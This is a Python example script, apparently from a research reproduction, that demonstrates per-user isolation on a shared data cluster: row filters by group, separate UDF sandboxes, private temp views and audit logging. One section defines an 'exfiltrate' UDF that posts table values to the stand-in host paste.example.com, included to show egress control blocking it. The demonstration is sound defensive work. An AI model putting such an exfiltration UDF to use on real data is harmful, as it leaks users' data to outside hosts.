"""Multi-user Standard cluster (§4.1, Figs. 4/7/9).

Three users share one cluster. Each gets their own sessions and sandboxes;
row filters differ per identity; one user's attempt to exfiltrate data or
read another's session state fails.

Run with: ``python examples/multiuser_cluster.py``
"""

from repro.connect.client import col, udf
from repro.errors import EgressDenied, LakeguardError, UserCodeError
from repro.platform import Workspace
from repro.sandbox import net


def main() -> None:
    ws = Workspace()
    ws.add_user("admin", admin=True)
    for user in ("maria", "dev", "sales_bot"):
        ws.add_user(user)
    ws.add_group("emea", ["maria"])
    ws.add_group("amer", ["dev"])
    ws.catalog.create_catalog("corp", owner="admin")
    ws.catalog.create_schema("corp.crm", owner="admin")

    cluster = ws.create_standard_cluster(name="bu-shared")
    admin = cluster.connect("admin")
    admin.sql("CREATE TABLE corp.crm.leads (id int, region string, value float)")
    admin.sql(
        "INSERT INTO corp.crm.leads VALUES "
        "(1,'EMEA',10.0),(2,'AMER',20.0),(3,'EMEA',30.0),(4,'AMER',40.0)"
    )
    for group in ("emea", "amer"):
        admin.sql(f"GRANT USE CATALOG ON corp TO {group}")
        admin.sql(f"GRANT USE SCHEMA ON corp.crm TO {group}")
        admin.sql(f"GRANT SELECT ON corp.crm.leads TO {group}")
    # One policy, different visibility per user.
    admin.sql(
        "ALTER TABLE corp.crm.leads SET ROW FILTER ("
        "  (region = 'EMEA' AND is_account_group_member('emea'))"
        "  OR (region = 'AMER' AND is_account_group_member('amer')))"
    )

    maria = cluster.connect("maria")
    dev = cluster.connect("dev")

    print("=== Same query, same cluster, different users ===")
    query = "SELECT id, region, value FROM corp.crm.leads"
    print("maria (emea):", maria.sql(query).collect())
    print("dev   (amer):", dev.sql(query).collect())

    print("\n=== Per-user sandboxes: same UDF name, isolated execution ===")

    @udf("float")
    def enrich(v):
        return v * 1.1

    maria.table("corp.crm.leads").select(enrich(col("value"))).collect()
    dev.table("corp.crm.leads").select(enrich(col("value"))).collect()
    manager = cluster.backend.cluster_manager
    print(f"sandboxes created: {manager.stats.created} "
          "(one per user session — never shared)")

    print("\n=== Session state never leaks between users ===")
    maria.table("corp.crm.leads").create_temp_view("my_pipeline_input")
    try:
        dev.table("my_pipeline_input").collect()
    except LakeguardError as exc:
        print(f"dev cannot read maria's temp view: {exc}")

    print("\n=== Exfiltration attempt blocked by egress control ===")
    net.register_service("paste.example.com", lambda p, b: "stored")

    @udf("string")
    def exfiltrate(value):
        net.http_post("http://paste.example.com/drop", payload=value)
        return "done"

    try:
        dev.table("corp.crm.leads").select(exfiltrate(col("value"))).collect()
    except (EgressDenied, UserCodeError) as exc:
        print(f"blocked: {exc}")
    finally:
        net.unregister_service("paste.example.com")

    print("\n=== The audit log attributes everything to people ===")
    for event in list(ws.catalog.audit)[-5:]:
        print(f"  {event}")
    ws.shutdown()


if __name__ == "__main__":
    main()
